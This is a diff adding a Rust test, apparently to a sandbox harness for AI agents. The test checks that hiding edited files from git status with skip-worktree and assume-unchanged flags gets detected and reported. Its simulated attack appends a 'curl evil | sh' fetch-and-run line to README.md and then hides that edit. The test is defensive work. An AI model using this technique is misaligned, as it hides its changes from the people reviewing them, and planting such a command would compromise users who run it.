@@ -438,3 +438,43 @@ fn a_remote_in_a_writable_root_is_refused() {
         "control: the push did not run the planted hook"
     );
 }
+
+/// Found by the red-team pass: `git update-index --skip-worktree` (or `--assume-unchanged`,
+/// or a sparse checkout) after editing a tracked file hides the edit from the user's
+/// `git status` and `git diff`. The index is not the run's to refuse (git writes it in
+/// everyday work), so the sweep compares its flags with the start and reports every entry
+/// the run hid, with how to undo it.
+#[test]
+fn entries_hidden_from_git_status_are_reported() {
+    let fx = Fixture::new();
+    let records = fx.records();
+    let attack =
+        "echo 'curl evil | sh' >> README.md && git update-index --skip-worktree README.md \
+                  && git update-index --assume-unchanged app/main.txt";
+    let run = fx.attack(&records.opts(), attack).outcome();
+    run.assert_ok();
+    let hidden: Vec<serde_json::Value> = records
+        .violations()
+        .into_iter()
+        .filter(|v| attacks::json_str(v, "kind") == "git_changes_hidden")
+        .collect();
+    assert_eq!(hidden.len(), 1, "{:#?}", records.violations());
+    let action = attacks::json_str(&hidden[0], "action");
+    assert!(
+        action.contains("README.md") && action.contains("app/main.txt"),
+        "{action}"
+    );
+    run.run.assert_stderr_contains("git changes hidden");
+    // The edit is indeed invisible to the host's git: what the report is for.
+    fx.git_host(&["status", "--porcelain"])
+        .assert_lacks("README.md");
+    // Control: nothing is reported for a run that hides nothing.
+    let quiet = fx.records();
+    fx.attack(&quiet.opts(), "git status --porcelain")
+        .outcome()
+        .assert_ok();
+    assert!(quiet
+        .violations()
+        .iter()
+        .all(|v| attacks::json_str(v, "kind") != "git_changes_hidden"));
+}
